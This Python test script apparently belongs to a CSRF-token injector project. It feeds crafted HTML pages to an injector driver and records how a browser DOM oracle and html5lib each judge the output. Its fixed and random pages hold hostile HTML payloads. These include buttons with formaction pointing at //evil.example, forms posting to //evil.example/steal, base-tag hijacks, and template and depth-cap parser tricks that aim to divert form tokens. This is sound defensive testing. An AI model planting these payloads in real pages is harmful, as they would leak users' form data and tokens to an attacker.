#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""The pages of the browser DOM oracle (dom_oracle.mjs), through the injector.

Runs pages through inject_driver (whole and split, as inject_diff.py
does) and writes one JSON line a page: {"label", "out" (the injector's
output), "count", "status"} and, with --html5lib, "h5": inject_diff.py's
verdict on the same output (its first finding, scripting off as
DOMParser is; "" when it finds none), so that a run shows what each
oracle sees. The pages, in this order:

- --tables N: template contents in tables (table_page): a template in a
  cell, row, section, caption, column group or table, its first start
  tag a table part or another, then the table tags and end tags that
  Firefox reads past a template (docs/architecture.md, "Template
  contents in a table"), with form="" and formaction submitters, forms
  and a <base>, before and after </template>; then forms of this
  origin, the form="" buttons' target among them. TABLE_FIXED first:
  the shapes Firefox pops the page's table with; then DEEP_FIXED, the
  depth cap's ghosts, each with and without an id on the site's form.
- --pages N: inject_diff.py's pages for --seed (page_stream: its fixed
  pages, regressions, random pages and extra pages, with the same cuts),
  the pages inject_diff.py --seed S --pages N judges with html5lib;
- --attack N: about N of attack_pages.py's pages (every k-th, from an
  offset the seed picks), with their own cuts.

Usage: dom_pages.py DRIVER [--seed S] [--pages N] [--tables N]
                           [--attack N] [--html5lib]
"""
import argparse
import json
import os
import random
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_pages  # noqa: E402
import inject_diff  # noqa: E402

REAL = inject_diff.REAL
# The form the form="" buttons name, and another one.
TARGET_F = "<form id=f method=post action=/f><input name=a><button>Go</button></form>"
TARGET_G = "<form id=g method=post><input name=b></form>"
# The outside review's Firefox shapes (commit 0f924ca, the test_inject
# rows it added): template contents whose first start tag is a table
# part, inside a page's table, with a tag Firefox takes for the page's.
TABLE_FIXED = [
    "<table><tr><td><template><td><caption><button form=f formaction=//evil.example/>x</button></template>" +
    TARGET_F,
    "<table><tr><td><template><th><tr><button form=f formaction=//evil.example/>x</button></template>" + TARGET_F,
    "<table><tr><td><template><td></tr><button form=f formmethod=get>x</button></template>" + TARGET_F,
    "<table><tr><td><template><td><col><button form=f formaction=//evil.example/>x</button></template>" +
    TARGET_F,
    "<table><tr><td><template><td><colgroup><button form=f formaction=//evil.example/>x</button></template>" +
    TARGET_F,
    "<table><tr><td><template><td><tbody><button form=f formaction=//evil.example/>x</button></template>" +
    TARGET_F,
    "<table><template><tr></table><button form=f formaction=//evil.example/>x</button></template>" + TARGET_F,
    "<table><tbody><template><tr></tbody><button form=f formaction=//evil.example/>x</button></template>" +
    TARGET_F,
    "<table><thead><template><div><table><tfoot></thead><button form=f formaction=//evil.example/>x</button>"
    "</template>" + TARGET_F,
    "<table><tr><td><template><td><select></table><button form=f formaction=//evil.example/>x</button>"
    "</template>" + TARGET_F,
    "<table><tr><td><template><td><caption><form method=post action=//evil.example/></template>" + REAL,
    "<table><tr><td><template><td><tr><base href=//evil.example/></template>" + REAL,
    # rows in a template in a table keep their token (each tag closes its own)
    "<table><template><tr><td>a</td></tr><tr><td>b</td></tr></template></table>" + REAL,
    "<table><tr><td><template><div><table><tr><td>x</td></tr></table></div></template>" + REAL,
]
# The tree depth cap (docs/architecture.md): a form opened about 512
# elements deep gets its children beside it, the field among them; where
# the owner is the nearest ancestor form (Chromium's DOMParser, innerHTML
# in both browsers) it is a ghost's: the attacker's form without a token
# (a GET one to evil.example here) whose </form> left it an ancestor. The
# ghosts: an element left open (<div></form>, at 509 to 600 <i> deep:
# the cap is at 510 and 511), the form out of scope (<table></form>), no
# tag inside it at all (520 formatting elements, each its own class so
# that all of them are kept, reconstructed by the text inside the GET
# form), and the depth built before the ghost (509 <i>, 2 <b> after it).
# Each with the site's form as REAL and with its own id. dom_oracle.mjs
# counts a finding on a field 400+ elements deep apart (fails on it with
# --deep).
EVIL = "<form method=get action=//evil.example/steal>"
EVIL_OPEN = EVIL + "<div></form>"
REAL_ID = REAL.replace("<form ", "<form id=send ")
DEEP_GHOSTS = ([EVIL_OPEN + "<i>" * n for n in (509, 510, 511, 600)] +
               [EVIL + "<table></form></table>" + "<i>" * 510,
                "<p>" + "".join("<b class=c%d>" % k for k in range(520)) + "</p>" + EVIL + "x</form>",
                "<i>" * 509 + EVIL_OPEN + "<b>" * 2])
# The outside review's page: a same-origin GET search form left open, a
# comment form with its own id 520 deep (its field names that id); the
# same with the search form holding that id first (no token).
COMMENT = ("<i>" * 520 + "<form id=commentform method=post action=/wp-comments-post.php>"
           "<textarea name=comment></textarea><button>Post</button></form>")
DEEP_FIXED = ([ghost + site for ghost in DEEP_GHOSTS for site in (REAL, REAL_ID)] +
              [EVIL_OPEN + "<a>" + "<div>" * 600 + REAL + "</a>",
               "<form method=get action=/search><div></form>" + COMMENT,
               "<form id=commentform method=get action=/search><div></form>" + COMMENT] +
              # a head (the meta tags' content="csrf-...") and a pinned form:
              # the driver once took the meta's name for an id and failed it
              ["<head></head><body>" + "<i>" * 480 + REAL])
TABLE_CONTEXTS = ["<table>", "<table><tr>", "<table><tr><td>", "<table><tr><th>", "<table><tbody>",
                  "<table><thead>", "<table><tfoot>", "<table><caption>", "<table><colgroup>",
                  "<table><tr><td><select>", "<table><tr><td><div>", "<div><table><tbody><tr><td>",
                  "<table><tr><td><table>", "<table><tr><td><template><table><tr><td>", "<template><table><tr>",
                  "<form method=post action=/o><table><tr><td>", ""]
TABLE_FIRST = ["<td>", "<th>", "<td>", "<tr>", "<tbody>", "<thead>", "<tfoot>", "<caption>", "<colgroup>", "<col>",
               "<div>", "<select>", "<table>", "<span>", "<option>", "<template>", ""]
TABLE_INNER = ["<caption>", "<col>", "<colgroup>", "<tbody>", "<tfoot>", "<thead>", "<tr>", "<td>", "<th>", "</tr>",
               "</td>", "</th>", "</table>", "</tbody>", "</tfoot>", "</thead>", "</caption>", "</colgroup>",
               "<table>", "<select>", "</select>", "<option>", "<template>", "</template>", "<div>", "</div>",
               "<form method=post action=/t>", "</form>", "x", "<a>", "</body>", "<svg>", "</svg>"]
PAYLOADS = ["<button form=f formaction=//evil.example/>x</button>", "<button form=f formmethod=get>x</button>",
            "<input type=submit form=f formaction=https://evil.example/>",
            "<input type=image form=g formaction=//evil.example/>", "<button formaction=//evil.example/>y</button>",
            "<button formmethod=get>y</button>", "<form method=post action=//evil.example/>",
            "<form method=get action=/g>", "<form id=f method=get action=/g2>", "<base href=//evil.example/>",
            "<input name=q>", "<button>z</button>"]
TABLE_TAILS = ["</td>", "</tr>", "</table>", "<tr><td>", "</tbody>", "</caption>", "<td>", "</template>", "<p>"]


def table_page(rng):
    """Template contents in a table, with what Firefox may read past the
    template, then forms of this origin."""
    parts = [rng.choice(TABLE_CONTEXTS), "<template>", rng.choice(TABLE_FIRST)]
    for _ in range(rng.randint(1, 6)):
        r = rng.random()
        parts.append(rng.choice(TABLE_INNER) if r < 0.55 else rng.choice(PAYLOADS) if r < 0.9 else
                     inject_diff.fragment(rng, True))
    if rng.random() < 0.9:
        parts.append("</template>")
    for _ in range(rng.randint(0, 3)):
        parts.append(rng.choice(TABLE_TAILS) if rng.random() < 0.6 else rng.choice(PAYLOADS))
    for form in (TARGET_F, TARGET_G, REAL):
        if rng.random() < 0.7:
            parts.append(form)
    parts.append(rng.choice(inject_diff.SAME_FORMS) + "<input name=a><button>Go</button></form>")
    return "".join(parts)


def stream(args):
    """(label, page as bytes, cuts)."""
    trng = random.Random("tables %d" % args.seed)
    if args.tables:
        for k, page in enumerate(TABLE_FIXED):
            yield "table fixed %d" % k, page.encode("latin-1"), []
        for k, page in enumerate(DEEP_FIXED):
            yield "deep fixed %d" % k, page.encode("latin-1"), []
        for k in range(args.tables):
            page = table_page(trng).encode("latin-1")
            yield "table page %d" % k, page, inject_diff.page_cuts(page, trng)
    if args.pages:
        for _, label, page, cut_rng in inject_diff.page_stream(args.seed, args.pages):
            page = page.encode("latin-1")
            yield label, page, inject_diff.page_cuts(page, cut_rng)
    if args.attack:
        arng = random.Random("attack %d" % args.seed)
        stride = max(1, ATTACK_PAGES // args.attack)
        offset = arng.randrange(stride)
        for k, (page, cuts) in enumerate(attack_pages.pages(random.Random(args.seed))):
            if k % stride == offset:
                yield "attack page %d" % k, page, cuts


ATTACK_PAGES = 257503  # attack_pages.pages()'s count (seed 1; about the same for others)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("driver")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--pages", type=int, default=0)
    ap.add_argument("--tables", type=int, default=0)
    ap.add_argument("--attack", type=int, default=0)
    ap.add_argument("--html5lib", action="store_true", help="add inject_diff.py's verdict (scripting off)")
    args = ap.parse_args()
    drv = subprocess.Popen([args.driver], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    out = sys.stdout
    for label, page, cuts in stream(args):
        drv.stdin.write(("%d %d %s\n" % (len(page), len(cuts), " ".join(map(str, cuts)))).encode())
        drv.stdin.write(page)
        drv.stdin.flush()
        head = drv.stdout.readline().decode()
        if head.startswith("ERR") or not head:
            print(json.dumps({"label": label, "error": head.strip() or "no answer",
                              "page": page.decode("latin-1")}), file=out, flush=True)
            return 1
        out_len, count, status = (int(x) for x in head.split())
        text = drv.stdout.read(out_len).decode("latin-1")
        rec = {"label": label, "out": text, "count": count, "status": status}
        if args.html5lib:
            found = inject_diff.leaks(text, False, status)[0]
            rec["h5"] = found[0] if found else ""
        out.write(json.dumps(rec) + "\n")
    out.flush()
    drv.stdin.close()
    return 0 if drv.wait() == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
